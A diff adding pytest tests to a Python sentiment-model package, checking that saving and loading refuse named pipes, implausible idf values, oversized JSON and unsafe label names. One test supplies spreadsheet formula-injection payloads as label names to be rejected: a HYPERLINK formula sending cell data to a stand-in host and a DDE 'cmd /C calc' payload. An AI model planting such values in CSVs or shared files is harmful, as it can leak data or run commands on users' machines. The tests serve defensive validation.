@@ -919,6 +919,12 @@ def test_a_save_never_deletes_files_that_are_not_part_of_the_model(fitted, model
             fitted("tfidf", "logreg").save(model_copy)
         assert (model_copy / link).is_symlink()
         (model_copy / link).unlink()
+    if hasattr(os, "mkfifo"):  # a named pipe, as a socket or a device, is no file a save writes either
+        os.mkfifo(model_copy / "feed")
+        with pytest.raises(ModelFileError, match="also holds feed, which is not part of the model"):
+            fitted("tfidf", "logreg").save(model_copy)
+        assert stat.S_ISFIFO((model_copy / "feed").stat().st_mode)
+        (model_copy / "feed").unlink()
     fitted("tfidf", "logreg").save(model_copy)  # the model's own files alone: replaced as before
     assert sentiment.load(model_copy).get_params()["model"] == "logreg"
 
@@ -1147,6 +1153,19 @@ def test_a_non_finite_vectorizer_array_is_refused(tmp_path, fitted):
         sentiment.load(tmp_path / "m")
 
 
+@pytest.mark.parametrize("idf", [1e308, 101.0, 0.5, -3.0])
+def test_idf_values_no_data_give_are_refused(tmp_path, fitted, idf):
+    """idf of 1e308, finite, overflowed in the features: every text got the same scores, with numpy's warnings;
+    a smoothed idf, ln((1 + n) / (1 + df)) + 1, lies between 1 and about 25."""
+    fitted("tfidf", "logreg").save(tmp_path / "m")
+    craft_stage(tmp_path / "m", "vectorizer", edit_arrays=lambda a: a["idf"].__setitem__(0, idf))
+    with pytest.raises(ModelFileError, match=r"not a consistent sentiment model \(its idf values are not all between "
+                                             r"1 and 100, as ln\(\(1 \+ n\) / \(1 \+ df\)\) \+ 1 of any data"):
+        sentiment.load(tmp_path / "m")
+    craft_stage(tmp_path / "m", "vectorizer", edit_arrays=lambda a: a["idf"].__setitem__(0, 100.0))
+    assert sentiment.load(tmp_path / "m").predict(["a fine film"])  # the largest taken
+
+
 @pytest.mark.parametrize("dtype", [np.complex64, np.int32, np.float16, np.bool_])
 def test_weights_of_a_type_this_package_never_writes_are_refused(model_copy, dtype):
     """Complex weights would lose their imaginary part (an infinite one: every text positive 1.000); none but
@@ -1179,9 +1198,24 @@ def test_a_model_bigger_than_the_memory_is_refused_before_it_is_read(model_copy,
     monkeypatch.setattr(persistence, "physical_memory", lambda: 2**30)
     with open(model_copy / "model" / "arrays.safetensors", "r+b") as handle:
         handle.truncate(2**31)  # sparse where the file system can
-    with pytest.raises(ModelFileError, match=r"files are bigger \(2\.0 GiB up to model/arrays.safetensors\) than "
-                                             r"this machine's memory \(1\.0 GiB\); load it on a bigger machine"):
+    with pytest.raises(ModelFileError, match=r"files would take more memory to load \(2\.0 GiB up to "
+                                             r"model/arrays.safetensors, JSON counted 32 times its size\) than this "
+                                             r"machine has \(1\.0 GiB\); load it on a bigger machine"):
         sentiment.load(model_copy)
+
+
+def test_a_state_json_is_counted_as_the_memory_its_python_objects_take(model_copy, monkeypatch):
+    """A state.json of 60 million "[]," took 4.7 GB to read for its 180 MB: JSON counts 32 times its size."""
+    from sentiment import persistence
+
+    files = [path for path in model_copy.rglob("*") if path.is_file() and path.name != "config.json"]
+    raw = sum(path.stat().st_size for path in files)
+    json_bytes = sum(path.stat().st_size for path in files if path.suffix == ".json")
+    monkeypatch.setattr(persistence, "physical_memory", lambda: raw + 30 * json_bytes)
+    with pytest.raises(ModelFileError, match=r"JSON counted 32 times its size\) than this machine has"):
+        sentiment.load(model_copy)
+    monkeypatch.setattr(persistence, "physical_memory", lambda: raw + 31 * json_bytes)
+    assert sentiment.load(model_copy).predict(["a fine film"])
 
 
 def test_a_failed_write_inside_a_nested_save_names_the_model_being_saved(saved_ensemble, tmp_path, monkeypatch):
@@ -1223,6 +1257,21 @@ def test_label_lists_that_do_not_name_distinct_classes_are_refused(model_copy, l
     with pytest.raises(ModelFileError, match=r"is not a consistent sentiment model \(its labels are not lists of "
                                              r"distinct values\); train it again"):
         sentiment.load(model_copy)
+
+@pytest.mark.parametrize("names, why", [
+    (['=HYPERLINK("http://x/?"&A1,"neg")', "positive"], "a label name starts as a spreadsheet formula does"),
+    (["negative", '+cmd|" /C calc"!A0'], "a label name starts as a spreadsheet formula does"),
+    (["negative", "@SUM(1+1)"], "a label name starts as a spreadsheet formula does"),
+    (["negative", " "], "a label name is empty"),
+])
+def test_label_names_a_csv_of_predictions_would_run_or_hide_are_refused(model_copy, names, why):
+    """A shared model's label names go into the label column of predict --output's CSV, which a spreadsheet
+    opens: a formula there would run."""
+    edit_config(model_copy, lambda config: config["labels"].update(names=names))
+    with pytest.raises(ModelFileError, match=f"is not a consistent sentiment model \\({why}"):
+        sentiment.load(model_copy)
+    edit_config(model_copy, lambda config: config["labels"].update(names=["-1", "-2+3"]))  # numbers, no call
+    assert sentiment.load(model_copy).label_names_ == ["-1", "-2+3"]
 
 
 @pytest.mark.parametrize("value", ["yes", [1], {}, 0])
